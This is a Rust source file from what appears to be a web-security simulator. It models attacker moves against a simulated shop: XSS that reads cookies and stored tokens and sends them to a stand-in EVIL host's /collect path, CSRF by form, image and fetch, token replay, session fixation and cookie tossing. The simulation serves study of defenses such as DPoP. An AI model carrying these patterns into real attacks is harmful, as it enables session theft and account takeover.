//! What attackers do: with a page of their own in the victim's browser, with a script
//! in the shop's page, and with a machine of their own.

use super::{Client, page, wire};
use crate::sim::browser::RequestContext;
use crate::sim::browser::request::{Credentials, FetchMode, RequestKind};
use crate::sim::clock::Time;
use crate::sim::exchange::{Call, Exchange, Plan, Purpose, Reply};
use crate::sim::http::Request;
use crate::sim::origin::{Origin, Scheme, Url};
use crate::sim::scenario::action::Forgery;
use crate::sim::server::cookies::DOMAIN;
use crate::sim::server::{ATTACKER, PASSWORDS, Server, routes};
use crate::sim::state::{Actor, Loot};
use crate::sim::trace::What;
use crate::sim::world::{BLOG, EVIL, SHOP, World};

/// How loot is named beside the header lines.
const REFRESH: &str = "refresh_token";

/// A script in the shop's page reads what scripts can read, and sends it away.
pub fn xss_read(world: &mut World, tab: u8) {
    let mut found: Vec<(String, String)> = wire::script_reads(world)
        .into_iter()
        .map(|cookie| (cookie.name, cookie.value))
        .collect();
    if !found.is_empty() {
        let line = pairs(&found, "; ");
        loot(world, "Cookie", line);
    }
    let stored: Vec<(String, String)> = world
        .state
        .all::<String>(Actor::Browser)
        .filter_map(|(name, value)| {
            let name = name.strip_prefix("local-storage/")?;
            Some((name.to_owned(), value.clone()))
        })
        .collect();
    take_tokens(world, &stored);
    found.extend(stored);
    let url = attackers(EVIL, "/collect");
    let mut request = Request::new("POST", url.clone());
    request.headers.add("Content-Type", "text/plain");
    request.body = pairs(&found, "&");
    let kind = RequestKind::Fetch {
        mode: FetchMode::NoCors,
        credentials: Credentials::Omit,
    };
    let shop = world.url(routes::PAGE).origin;
    let context = RequestContext::within(&shop, url, "POST", kind);
    let exchange = Exchange {
        from: Actor::Script,
        context: Some(context),
        ..bare(world, request, Purpose::Nothing)
    };
    world.emit(What::Note {
        who: Actor::Script,
        text: format!("reads {} values in tab {tab}", found.len()),
    });
    wire::send(world, exchange);
}

/// A script in the shop's page has the page's own code send a request.
pub fn xss_ride(world: &mut World, tab: u8) {
    let call = Call::new("POST", routes::WRITE);
    let request = page::compose(world, Actor::Tab(tab), &call);
    let exchange = Exchange {
        attack: Some(world.now),
        ..page::exchange(world, Actor::Script, request, Purpose::Nothing)
    };
    wire::send(world, exchange);
}

/// How another site's page makes the browser send a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Csrf {
    Form,
    Image,
    Fetch,
}

/// A page of the attacker in the victim's browser.
pub fn csrf(world: &mut World, how: Csrf) {
    let evil = Origin::new(Scheme::Https, EVIL);
    let url = world.url(routes::WRITE);
    let (request, context) = match how {
        Csrf::Form => (
            Request::new("POST", url.clone()).form("text=gotcha".to_owned()),
            RequestContext::navigation(url, "POST", &evil),
        ),
        Csrf::Image => {
            let url = world.url(&format!("{}?text=gotcha", routes::WRITE));
            (
                Request::new("GET", url.clone()),
                RequestContext::within(&evil, url, "GET", RequestKind::Image),
            )
        }
        Csrf::Fetch => {
            let mut request = Request::new("POST", url.clone());
            request.headers.add("Content-Type", "text/plain");
            request.body = r#"{"text":"gotcha"}"#.to_owned();
            let kind = RequestKind::Fetch {
                mode: FetchMode::NoCors,
                credentials: Credentials::Include,
            };
            let context = RequestContext::within(&evil, url, "POST", kind);
            (request, context)
        }
    };
    let exchange = Exchange {
        from: Actor::AttackerPage,
        context: Some(context),
        ..bare(world, request, Purpose::Nothing)
    };
    wire::send(world, exchange);
}

/// Copies whatever credential the victim's browser holds for the shop.
pub fn steal(world: &mut World, tab: u8) {
    let url = world.url(routes::READ);
    let line = wire::jar(world, Actor::Browser)
        .select(&RequestContext::typed(url), world.now)
        .header();
    if let Some(line) = line {
        loot(world, "Cookie", line);
    }
    let me = Actor::Tab(tab);
    let client = Client { world, me };
    let access = client.access_token().map(|token| ("access_token", token));
    let refresh = client.refresh_token().map(|token| (REFRESH, token));
    let texts: Vec<(String, String)> = access
        .into_iter()
        .chain(refresh)
        .map(|(name, value)| (name.to_owned(), value))
        .collect();
    take_tokens(world, &texts);
    // The key of a proof cannot be copied; a proof that was sent can.
    let proof = world
        .events
        .iter()
        .rev()
        .find_map(|event| match &event.what {
            What::Request { message, .. } if message.url.path == routes::READ => {
                message.headers.get("DPoP").map(str::to_owned)
            }
            _ => None,
        });
    if let Some(proof) = proof {
        loot(world, "DPoP", proof);
    }
    let text = "copies what the browser holds".to_owned();
    let who = Actor::Thief;
    world.emit(What::Note { who, text });
}

/// The thief reads with what they have.
pub fn replay(world: &mut World) {
    let mut request = Request::new("GET", world.url(routes::READ));
    let since = attach_loot(world, &mut request, &["Cookie", "Authorization", "DPoP"]);
    send_loot(world, request, since, Purpose::Nothing);
}

/// The thief asks for new tokens with a stolen refresh token.
pub fn replay_refresh(world: &mut World) {
    let url = world.url(routes::TOKEN);
    let form = "grant_type=refresh_token&client_id=shop-web";
    let token = world.state.get::<Loot>(Actor::Thief, REFRESH).cloned();
    let (request, since) = match token {
        Some(token) => {
            let body = format!("{form}&refresh_token={}", token.value);
            (Request::new("POST", url).form(body), Some(token.since))
        }
        None => {
            let mut request = Request::new("POST", url).form(form.to_owned());
            let since = attach_loot(world, &mut request, &["Cookie"]);
            (request, since)
        }
    };
    send_loot(world, request, since, Purpose::ThiefRefresh);
}

/// The attacker gets a session ID from the shop, to plant it in the victim's browser.
pub fn fixate(world: &mut World) {
    let request = Request::new("GET", world.url(routes::START));
    let exchange = own(world, request, Purpose::AttackerStart);
    wire::send(world, exchange);
}

/// The attacker logs in with their own account.
pub fn log_in(world: &mut World, then: Plan) {
    let password = PASSWORDS
        .iter()
        .find(|(user, _)| *user == ATTACKER)
        .map_or("", |(_, password)| password);
    let body = format!(r#"{{"user":"{ATTACKER}","password":"{password}","client_id":"shop-web"}}"#);
    let mut request = Request::new("POST", world.url(routes::LOG_IN)).json(body);
    let lane = world.lane;
    let me = Actor::Thief;
    lane.introduce(&mut Client { world, me }, &mut request);
    let exchange = own(world, request, Purpose::AttackerLogIn { then });
    wire::send(world, exchange);
}

/// Someone listens while the person opens the shop without https.
pub fn sniff(world: &mut World) {
    world.sniffed = true;
    let mut url = world.url(routes::READ);
    url.origin = Origin::new(Scheme::Http, SHOP);
    let exchange = Exchange {
        from: Actor::Tab(1),
        request: Request::new("GET", url.clone()),
        context: Some(RequestContext::typed(url)),
        purpose: Purpose::Nothing,
        attack: None,
        lose_response: false,
        reply: None,
    };
    wire::send(world, exchange);
    page::call(world, Actor::Tab(1), Call::new("GET", routes::READ));
}

/// What happens when an answer for the attacker has arrived.
pub fn answered(world: &mut World, purpose: &Purpose, reply: &Reply) {
    match purpose {
        Purpose::AttackerStart => {
            // Whoever logs in with this session ID shares the session.
            let cookies = set_pairs(reply);
            if !cookies.is_empty() {
                loot(world, "Cookie", pairs(&cookies, "; "));
            }
            plant(world, &cookies, "/");
        }
        Purpose::AttackerLogIn { then: Plan::Toss } => plant(world, &set_pairs(reply), "/api"),
        Purpose::AttackerLogIn {
            then: Plan::Forge(forgery),
        } => forge(world, *forgery, reply),
        Purpose::ThiefRefresh if reply.rule.accepts() => {
            let names = ["access_token", REFRESH];
            let tokens: Vec<(String, String)> = names
                .iter()
                .filter_map(|name| Some(((*name).to_owned(), reply.response.member(name)?)))
                .collect();
            take_tokens(world, &tokens);
            let cookies = set_pairs(reply);
            if !cookies.is_empty() {
                loot(world, "Cookie", pairs(&cookies, "; "));
            }
        }
        _ => {}
    }
}

/// Plants the cookies of an answer in the victim's browser, from a sub-domain of the
/// shop whose pages the attacker writes ("cookie tossing").
fn plant(world: &mut World, cookies: &[(String, String)], path: &str) {
    let Some((name, value)) = cookies.first() else {
        let text = "got nothing that a browser would send by itself".to_owned();
        let who = Actor::Thief;
        world.emit(What::Note { who, text });
        return;
    };
    let line = format!("{name}={value}; Domain={DOMAIN}; Path={path}; Secure");
    world.put(Actor::Thief, "to plant", line);
    let url = attackers(BLOG, "/article");
    let exchange = Exchange {
        from: Actor::Tab(1),
        request: Request::new("GET", url.clone()),
        context: Some(RequestContext::typed(url)),
        purpose: Purpose::Plant,
        attack: None,
        lose_response: false,
        reply: None,
    };
    wire::send(world, exchange);
}

fn forge(world: &mut World, forgery: Forgery, reply: &Reply) {
    let lane = world.lane;
    let mut server = Server::new(world, Actor::Thief, None);
    let (name, value) = lane.forge(&mut server, forgery, &reply.response);
    let request = Request::new("GET", world.url(routes::READ)).with(&name, value);
    let exchange = bare(world, request, Purpose::Nothing);
    wire::send(world, exchange);
}

fn attach_loot(world: &World, request: &mut Request, lines: &[&str]) -> Option<Time> {
    let mut since = None;
    for line in lines {
        if let Some(loot) = world.state.get::<Loot>(Actor::Thief, line) {
            request.headers.add(line, loot.value.clone());
            since = Some(loot.since);
        }
    }
    since
}

fn send_loot(world: &mut World, request: Request, since: Option<Time>, purpose: Purpose) {
    let Some(since) = since else {
        let text = "has nothing to try".to_owned();
        let who = Actor::Thief;
        world.emit(What::Note { who, text });
        return;
    };
    let exchange = Exchange {
        attack: Some(since),
        ..bare(world, request, purpose)
    };
    wire::send(world, exchange);
}

/// A request of the thief's machine: no browser adds anything to it.
fn bare(world: &World, request: Request, purpose: Purpose) -> Exchange {
    Exchange {
        from: Actor::Thief,
        request,
        context: None,
        purpose,
        attack: Some(world.now),
        lose_response: false,
        reply: None,
    }
}

/// The same, where the attacker does what anyone may do with their own account.
fn own(world: &World, request: Request, purpose: Purpose) -> Exchange {
    Exchange {
        attack: None,
        ..bare(world, request, purpose)
    }
}

/// Keeps loot, with the moment when it was first had.
fn loot(world: &mut World, line: &str, value: String) {
    let known = world.state.get::<Loot>(Actor::Thief, line);
    let since = known.map_or(world.now, |known| known.since);
    let line = line.to_owned();
    world.put(Actor::Thief, &line.clone(), Loot { line, value, since });
}

/// Keeps stolen tokens as the headers and fields in which they will be sent.
fn take_tokens(world: &mut World, texts: &[(String, String)]) {
    let scheme = if world.settings.dpop {
        "DPoP"
    } else {
        "Bearer"
    };
    for (name, value) in texts {
        match name.as_str() {
            "access_token" => loot(world, "Authorization", format!("{scheme} {value}")),
            REFRESH => loot(world, REFRESH, value.clone()),
            _ => {}
        }
    }
}

/// The names and values of an answer's cookies.
fn set_pairs(reply: &Reply) -> Vec<(String, String)> {
    reply
        .response
        .headers
        .all("Set-Cookie")
        .filter_map(|line| line.split(';').next()?.split_once('='))
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .collect()
}

fn pairs(pairs: &[(String, String)], between: &str) -> String {
    let pairs: Vec<String> = pairs
        .iter()
        .map(|(name, value)| format!("{name}={value}"))
        .collect();
    pairs.join(between)
}

fn attackers(host: &str, path: &str) -> Url {
    Url::new(Origin::new(Scheme::Https, host), path)
}
